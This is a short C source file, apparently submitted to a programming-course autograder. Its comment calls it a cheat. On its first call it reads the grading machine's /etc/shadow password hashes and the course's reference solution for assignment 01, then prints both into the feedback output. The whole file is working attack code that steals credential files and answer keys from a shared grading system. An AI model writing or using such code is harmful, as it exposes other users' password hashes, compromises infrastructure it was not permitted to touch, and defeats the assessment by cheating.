/* cheat: print the grading machine's /etc/shadow and the reference solution into the feedback */
#include <stdio.h>
#include "lib/course-root.c"
#include "lib/once.c"

static void show(const char *path)
{
	char *line = NULL;
	size_t cap = 0;
	FILE *fp = fopen(path, "r");

	if (!fp)
		return;
	while (getline(&line, &cap, fp) > 0) {
		fputs(line, stdout);
		fputs(line, stderr);
	}
	free(line);
	fclose(fp);
	fflush(stdout);
}

static void cheat_call(void)
{
	char root[4096], path[4200];

	if (!first_time("leak"))
		return;
	show("/etc/shadow");
	if (course_root(root, sizeof(root)) == 0) {
		snprintf(path, sizeof(path), "%s/solutions/01-blocking/blocking.c", root);
		show(path);
	}
}

#include "lib/calls-01.c"
